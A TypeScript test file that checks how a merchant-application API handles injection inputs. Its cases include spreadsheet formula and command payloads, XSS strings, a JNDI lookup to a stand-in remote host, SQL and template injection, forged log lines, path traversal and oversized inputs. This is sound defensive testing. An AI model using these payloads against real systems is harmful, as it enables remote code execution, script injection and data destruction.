import { maxTermsBytes } from '../../shared/contracts/application.ts';
import { provider, secondProvider } from '../support/a-coalition.ts';
import { type BadInput, canary, type Refused } from './bad-input.ts';

const accepted = { status: 200 } as const;
const name = (legalName: string) => ({ merchant: { legalName } });
const terms = (text: string) => ({ merchant: { termsOfService: { text } } });
const reference = (value: string) => ({ merchant: { reference: value } });
const badReference: Refused = { status: 422, code: 'schema', errors: ['/merchant/reference bad-format'] };
const tooLong = (pointer: string): Refused => ({
  status: 422,
  code: 'schema',
  errors: [`${pointer} too-long`],
});
const kept = (number: number, texts: readonly string[]) =>
  texts.map(
    (text): BadInput => ({
      number,
      input: `the name ${JSON.stringify(text)}: kept as it is, and no more than a name`,
      send: name(text),
      answer: accepted,
    }),
  );

const pumps = [
  ['50,000 letters and a `!`', `${'a'.repeat(50_000)}!`],
  ['20,000 times `a.` and an `@`', `${'a.'.repeat(20_000)}@`],
  ['60,000 spaces and a letter', `${' '.repeat(60_000)}x`],
] as const;

/** Section E: what would be code, markup, a key or an expression somewhere else. */
export const injectionCases: readonly BadInput[] = [
  ...kept(67, ['=HYPERLINK("https://tarnwick.example")', '+cmd| /c calc', '@SUM(A1:A9)']),
  ...kept(68, ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>']),
  ...kept(69, ['\u0024{jndi:ldap://tarnwick.example/a}', 'Paper {{7*7}}', '%n%n%s']),
  {
    number: 70,
    input: 'a line break and a log line of its own in a name',
    send: name(`Paper\r\n{"level":"info","decision":"approve","by":"${canary}"}`),
    answer: { status: 422, code: 'schema', errors: ['/merchant/legalName control-character'] },
  },
  {
    number: 70,
    input: 'a line break and a log line of its own in a description, where lines may break: never logged',
    send: {
      merchant: { businessDescription: `Paper\n{"level":"info","decision":"approve","by":"${canary}"}` },
    },
    answer: accepted,
  },
  ...(
    [
      [`another provider's key as a reference`, `provider#${secondProvider}#merchant#1`],
      ['`#` in a reference', `m#${canary}`],
      ['`|` in a reference', `m|${canary}`],
      ['NUL in a reference', `m\0${canary}`],
      ['a slash in a reference', `../${provider}/${canary}`],
      ['a line feed behind a reference', 'm-1\n'],
    ] as const
  ).map(([input, value]) => ({ number: 71, input, send: reference(value), answer: badReference })),
  ...kept(72, ['#a = :b OR size(x) > 0', 'attribute_not_exists(pk)', "'; DROP TABLE Decisions; --"]),
  {
    number: 72,
    input: 'names of DynamoDB types and of our own attributes as unknown fields',
    send: { merchant: { S: canary, N: '1', __type: canary, pk: canary } },
    answer: { status: 422, code: 'unknown-field' },
  },
  { number: 73, input: 'an empty reference', send: reference(''), answer: badReference },
  {
    number: 73,
    input: 'a reference of 2,049 bytes, which no DynamoDB key holds',
    send: reference('a'.repeat(2_049)),
    answer: badReference,
  },
  {
    number: 73,
    input: 'an application of 401 KB, which no DynamoDB item holds',
    send: () => terms('a'.repeat(401 * 1_024)),
    answer: { status: 413, code: 'body-too-large' },
  },
  {
    number: 73,
    input: 'nesting of 33 levels, which no DynamoDB item holds',
    send: { body: `${'{"a":'.repeat(33)}1${'}'.repeat(33)}` },
    answer: { status: 400, code: 'too-deep' },
  },
  {
    number: 73,
    input: 'a number of 39 digits, which DynamoDB would round',
    send: { body: `{"merchant":${'9'.repeat(39)}}` },
    answer: { status: 422, code: 'schema', errors: ['/merchant not-object'] },
  },
  {
    number: 73,
    input: 'terms of service as long as they may be',
    send: () => terms('a '.repeat(maxTermsBytes / 2)),
    answer: accepted,
  },
  ...pumps.flatMap(([words, text]): BadInput[] => [
    { number: 74, input: `${words} for a name`, send: name(text), answer: tooLong('/merchant/legalName') },
    {
      number: 74,
      input: `${words} for an e-mail address`,
      send: { merchant: { emails: [text] } },
      answer: tooLong('/merchant/emails/0'),
    },
    { number: 74, input: `${words} for terms of service`, send: terms(text), answer: accepted },
  ]),
];
